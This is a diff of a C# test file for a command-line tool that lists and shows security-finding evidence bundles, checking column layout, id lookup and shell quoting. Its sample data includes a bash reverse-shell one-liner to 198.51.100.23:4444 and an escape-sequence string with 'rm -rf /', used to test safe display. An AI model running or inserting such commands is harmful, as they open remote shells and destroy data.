@@ -13,7 +13,7 @@ public abstract partial class AuditCommandsTest
     private static readonly SampleEvent s_newest = new() { FindingId = "3333cccc", EventTime = new DateTimeOffset(2026, 11, 28, 21, 14, 7, 482, TimeSpan.Zero) };
 
     [Fact]
-    public async Task List_ShowsNewestFirstWithCompactCollectors()
+    public async Task List_ShowsNewestFirst_FitsOneHundredColumns_WithTheShortIdAndCompleteness()
     {
         var older = await SeedAsync(s_older);
         var newest = await SeedAsync(s_newest);
@@ -22,12 +22,50 @@ public abstract partial class AuditCommandsTest
         var result = await RunAsync("list");
 
         Assert.True(result.ExitCode == ExitCodes.Ok, result.ToString());
-        var lines = result.Output.Split('\n', StringSplitOptions.RemoveEmptyEntries);
-        Assert.StartsWith("EVENT TIME (UTC)  ", lines[0], StringComparison.Ordinal);
-        Assert.Equal([newest.Value, middle.Value, older.Value], lines.Skip(1).Select(l => l.Split("  ", StringSplitOptions.RemoveEmptyEntries)[^1]));
-        Assert.Contains("2026-11-20 08:00:00.000  shop-dev-1", lines[3], StringComparison.Ordinal);
-        Assert.Contains("  cart  ", lines[3], StringComparison.Ordinal);
-        Assert.Contains("198.51.100.23:4444  /bin/bash  3 ok, 1 failed  ", lines[1], StringComparison.Ordinal);
+        var lines = result.Output.Split(Environment.NewLine, StringSplitOptions.RemoveEmptyEntries);
+        Assert.Equal("EVENT TIME (UTC)  SEVERITY  SERVICE       REMOTE              EVIDENCE  PROJECT         ID", lines[0].TrimEnd());
+        Assert.Equal([newest.Value[^12..], middle.Value[^12..], older.Value[^12..]], lines.Skip(1).Select(l => l.Split("  ", StringSplitOptions.RemoveEmptyEntries)[^1]));
+        Assert.Equal($"2026-11-20 08:00  CRITICAL  cart          198.51.100.23:4444  3/4 ok    shop-dev-1      {older.Value[^12..]}", lines[3]);
+        Assert.All(lines, l => Assert.True(l.Length <= 100, $"{l.Length} columns: {l}"));
+    }
+
+    [Theory]
+    [InlineData(100)]
+    [InlineData(80)]
+    public async Task List_LongNames_AreShortenedInTheMiddle_AndFitTheWidth(int width)
+    {
+        const string LongService = "payments-checkout-api-europe-west1-canary-blue-green-service";
+        var id = await SeedAsync(new SampleEvent { Service = LongService, Project = "a-very-long-project-identifier-for-payments-prod" });
+
+        var result = await RunAsync("list", "--width", width.ToString(System.Globalization.CultureInfo.InvariantCulture));
+
+        Assert.True(result.ExitCode == ExitCodes.Ok, result.ToString());
+        var lines = result.Output.Split(Environment.NewLine, StringSplitOptions.RemoveEmptyEntries);
+        Assert.All(lines, l => Assert.True(l.Length <= width, $"{l.Length} > {width}: {l}"));
+        var service = lines[1].Split("  ", StringSplitOptions.RemoveEmptyEntries)[1..].First(c => c.Contains('…', StringComparison.Ordinal));
+        Assert.StartsWith("payments", service, StringComparison.Ordinal);
+        Assert.EndsWith("service", service, StringComparison.Ordinal);
+        Assert.EndsWith(id.Value[^12..], lines[1], StringComparison.Ordinal);
+        Assert.StartsWith("EVENT TIME (UTC)", lines[0], StringComparison.Ordinal);
+        if (width == 80)
+        {
+            // The least needed columns go first when narrow.
+            Assert.DoesNotContain("PROJECT", lines[0], StringComparison.Ordinal);
+        }
+    }
+
+    [Fact]
+    public async Task List_Wide_PrintsEveryColumnInFull()
+    {
+        var id = await SeedAsync();
+
+        var result = await RunAsync("list", "--wide");
+
+        var lines = result.Output.Split(Environment.NewLine, StringSplitOptions.RemoveEmptyEntries);
+        Assert.Equal(["EVENT TIME (UTC)", "SEVERITY", "CATEGORY", "PROJECT", "SERVICE", "REVISION", "REMOTE", "BINARY", "EVIDENCE", "COLLECTORS", "BUNDLE ID"], System.Text.RegularExpressions.Regex.Split(lines[0], @"\s{2,}"));
+        Assert.EndsWith(id.Value, lines[1], StringComparison.Ordinal);
+        Assert.Contains("2026-11-28 21:14:07.482  CRITICAL  Reverse Shell", lines[1], StringComparison.Ordinal);
+        Assert.Contains("/bin/bash  3/4 ok    3 ok, 1 failed  ", lines[1], StringComparison.Ordinal);
     }
 
     [Theory]
@@ -66,18 +104,51 @@ public abstract partial class AuditCommandsTest
     }
 
     [Fact]
-    public async Task Show_PrintsTheSummary()
+    public async Task Show_LeadsWithTheHeadlineAndWhatIsMissing_ArgumentsQuotedForAShell()
     {
-        var id = await SeedAsync();
+        var id = await SeedAsync(new SampleEvent { Args = ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1", "it's", ""] });
 
         var result = await RunAsync("show", id.Value);
 
         Assert.True(result.ExitCode == ExitCodes.Ok, result.ToString());
+        var lines = result.Output.Split(Environment.NewLine);
+        Assert.Equal("CRITICAL Reverse Shell on service checkout-api (project shop-prod-4471, europe-west1) at 2026-11-28 21:14:07 UTC: /bin/bash → 198.51.100.23:4444", lines[0]);
+        Assert.Equal("Evidence: INCOMPLETE", lines[2]);
+        Assert.Equal("  audit-logs:        failed: PermissionDenied: the test says so", lines[3]);
         Assert.Contains($"  Bundle:            {id}", result.Output, StringComparison.Ordinal);
         Assert.Contains("  Remote:            198.51.100.23:4444", result.Output, StringComparison.Ordinal);
-        Assert.Contains("  Arguments:         bash -c bash -i >& /dev/tcp/198.51.100.23/4444 0>&1", result.Output, StringComparison.Ordinal);
+        Assert.Contains("  Arguments:         bash -c 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1' 'it'\\''s' ''", result.Output, StringComparison.Ordinal);
         Assert.Contains("Collectors (3 ok, 1 failed)", result.Output, StringComparison.Ordinal);
         Assert.Contains("  audit-logs:        failed, 0 items: PermissionDenied: the test says so", result.Output, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task Show_AcceptsTheFindingIdTheFindingNameAndTheShortId()
+    {
+        var id = await SeedAsync();
+        await SeedAsync(s_older);
+
+        foreach (var text in new[] { "5f1c8e0a2b7d4e6f9a0b1c2d3e4f5a6b", "organizations/418230051457/sources/9347120561842215403/locations/global/findings/5f1c8e0a2b7d4e6f9a0b1c2d3e4f5a6b", id.Value[^12..] })
+        {
+            var result = await RunAsync("show", text);
+
+            Assert.True(result.ExitCode == ExitCodes.Ok, result.ToString());
+            Assert.Contains($"  Bundle:            {id}", result.Output, StringComparison.Ordinal);
+        }
+    }
+
+    [Theory]
+    [InlineData("0123456789abcdef")]
+    [InlineData("nosuchfinding")]
+    [InlineData("organizations/1/sources/2/findings/nosuchfinding")]
+    public async Task Show_UnknownFindingOrShortId_IsNotFound_ExitsOne(string text)
+    {
+        await SeedAsync();
+
+        var result = await RunAsync("show", text);
+
+        Assert.Equal(ExitCodes.Problem, result.ExitCode);
+        Assert.StartsWith($"error: not found: no bundle for '{text}' in ", result.Error, StringComparison.Ordinal);
     }
 
     [Fact]
@@ -100,8 +171,8 @@ public abstract partial class AuditCommandsTest
         var list = await RunAsync("list");
         var show = await RunAsync("show", id.Value);
 
-        // Escapes, BEL, CR and the right-to-left override are shown as what they are, never acted on.
-        Assert.Contains("\\u001b[2J\\u001b]0;owned\\u0007 rm -rf /\\u000d\\u000a", show.Output, StringComparison.Ordinal);
+        // Escapes, BEL, CR and the right-to-left override are shown as what they are, never acted on; show quotes the argument.
+        Assert.Contains(@"'\u001b[2J\u001b]0;owned\u0007 rm -rf /\u000d\u000a'", show.Output, StringComparison.Ordinal);
         Assert.Contains("/bin/\\u202eexe.hs", show.Output, StringComparison.Ordinal);
         Assert.DoesNotContain(show.Output.Concat(list.Output), c => (char.IsControl(c) && c is not '\n' and not '\r') || c == '\u202e');
     }
@@ -117,7 +188,7 @@ public abstract partial class AuditCommandsTest
         var result = await RunAsync("show", badId);
 
         Assert.Equal(ExitCodes.Usage, result.ExitCode);
-        Assert.Contains("is not a bundle id: expected yyyyMMddTHHmmssfffZ-<finding id>-<16 hex digits>", result.Error, StringComparison.Ordinal);
+        Assert.Contains("is not a bundle id, the ID list prints, a finding id or a finding name: a bundle id is yyyyMMddTHHmmssfffZ-<finding id>-<16 hex digits>", result.Error, StringComparison.Ordinal);
         Assert.DoesNotContain('\u001b', result.Error);
     }
 
@@ -127,6 +198,6 @@ public abstract partial class AuditCommandsTest
         var result = await RunAsync("show", "20261128T211407482Z-abc-0123456789abcdef");
 
         Assert.Equal(ExitCodes.Problem, result.ExitCode);
-        Assert.Contains("error: no index entry for bundle 20261128T211407482Z-abc-0123456789abcdef", result.Error, StringComparison.Ordinal);
+        Assert.Contains("error: not found: no index entry for bundle 20261128T211407482Z-abc-0123456789abcdef", result.Error, StringComparison.Ordinal);
     }
 }
